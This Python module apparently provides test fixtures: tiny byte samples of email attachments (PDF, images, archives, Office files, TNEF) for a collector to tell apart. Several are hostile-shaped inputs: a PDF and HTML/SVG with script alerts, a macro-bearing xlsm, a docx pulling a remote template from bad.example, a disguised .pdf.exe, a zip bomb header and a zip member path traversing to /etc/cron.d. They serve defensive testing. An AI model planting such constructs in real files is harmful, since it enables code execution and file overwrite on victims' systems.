"""The bytes of attached files, small and of the shapes that a collector must tell apart."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

EPOCH = (2026, 4, 10, 8, 0, 0)
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n%%EOF\n"
PDF_JS = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF\n"
PDF_LOCKED = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Encrypt 2 0 R>>\n%%EOF\n"
JPG = bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffd9")
PNG = b"\x89PNG\r\n\x1a\n" + b"\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\6\0\0\0\x1f\x15\xc4\x89" + b"\0\0\0\0IEND\xaeB`\x82"
EXE = b"MZ" + b"\0" * 64
RAR = b"Rar!\x1a\x07\x01\x00" + b"\0" * 24
SEVEN = b"7z\xbc\xaf\x27\x1c" + b"\0" * 26
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 504
P7S = bytes.fromhex("308006092a864886f70d010702a0803080020101")


def zipped(members: dict[str, bytes]) -> bytes:
    """Return a zip archive of these files."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, EPOCH), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def office(kind: str, text: str = "Báo cáo", extra: dict[str, bytes] | None = None) -> bytes:
    """Return a small docx or xlsx with this text in it."""
    inner = {"word": "word/document.xml", "excel": "xl/sharedStrings.xml"}[kind]
    types = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    body = f'<?xml version="1.0"?><a xmlns:w="w"><w:t>{text}</w:t></a>'.encode()
    return zipped({"[Content_Types].xml": types, inner: body, **(extra or {})})


def locked_zip() -> bytes:
    """Return an archive whose only member is marked as encrypted."""
    data = bytearray(zipped({"báo cáo.pdf": PDF}))
    data[6] |= 1
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


def boastful_zip() -> bytes:
    """Return an archive whose directory says that its member unpacks to three gigabytes."""
    data = bytearray(zipped({"số liệu.csv": b"0" * 1000}))
    at = data.index(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 3 << 30)
    return bytes(data)


def tnef_attribute(level: int, name: int, data: bytes) -> bytes:
    """Return one attribute of a TNEF stream."""
    return bytes([level]) + struct.pack("<II", name, len(data)) + data + struct.pack("<H", sum(data) & 0xFFFF)


def winmail() -> bytes:
    """Return a winmail.dat that holds one PDF."""
    rendering = struct.pack("<HIHHI", 1, 0xFFFFFFFF, 32, 32, 0)
    return b"".join(
        [
            struct.pack("<IH", 0x223E9F78, 1),
            tnef_attribute(1, 0x00089006, struct.pack("<I", 0x00010000)),
            tnef_attribute(1, 0x00069007, struct.pack("<II", 1258, 0)),
            tnef_attribute(1, 0x00078008, b"IPM.Microsoft Mail.Note\0"),
            tnef_attribute(2, 0x00069002, rendering),
            tnef_attribute(2, 0x00018010, b"bao-cao-quy-1.pdf\0"),
            tnef_attribute(2, 0x0006800F, PDF),
        ]
    )  # fmt: skip -- one attribute a line


FILES: dict[str, Callable[[], bytes]] = {
    "pdf": lambda: PDF,
    "pdf-js": lambda: PDF_JS,
    "pdf-locked": lambda: PDF_LOCKED,
    "jpg": lambda: JPG,
    "png": lambda: PNG,
    "exe": lambda: EXE,
    "rar": lambda: RAR,
    "7z": lambda: SEVEN,
    "doc": lambda: OLE,
    "p7s": lambda: P7S,
    "empty": lambda: b"",
    "html": lambda: b"<html><script>alert(1)</script></html>",
    "svg": lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "docx": lambda: office("word"),
    "xlsx": lambda: office("excel"),
    "docx-secret": lambda: office("word", "MẬT"),
    "xlsm": lambda: office("excel", extra={"xl/vbaProject.bin": OLE}),
    "docx-remote": lambda: office(
        "word",
        extra={
            "word/_rels/settings.xml.rels": b'<Relationships><Relationship TargetMode="External" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
            b'Target="http://bad.example/t.dotm"/></Relationships>'
        },
    ),
    "zip": lambda: zipped({"báo cáo.pdf": PDF, "biểu.xlsx": office("excel")}),
    "zip-exe": lambda: zipped({"BÁO CÁO.pdf.exe": EXE}),
    "zip-nested": lambda: zipped({"trong.zip": zipped({"a.exe": EXE})}),
    "zip-bomb": boastful_zip,
    "zip-ratio": lambda: zipped({"số liệu.txt": b"0" * 30_000_000}),
    "zip-locked": locked_zip,
    "zip-traversal": lambda: zipped({"../../etc/cron.d/x": b"x"}),
    "tnef": winmail,
    "ics": lambda: b"BEGIN:VCALENDAR\r\nMETHOD:REPLY\r\nEND:VCALENDAR\r\n",
}  # fmt: skip -- a table
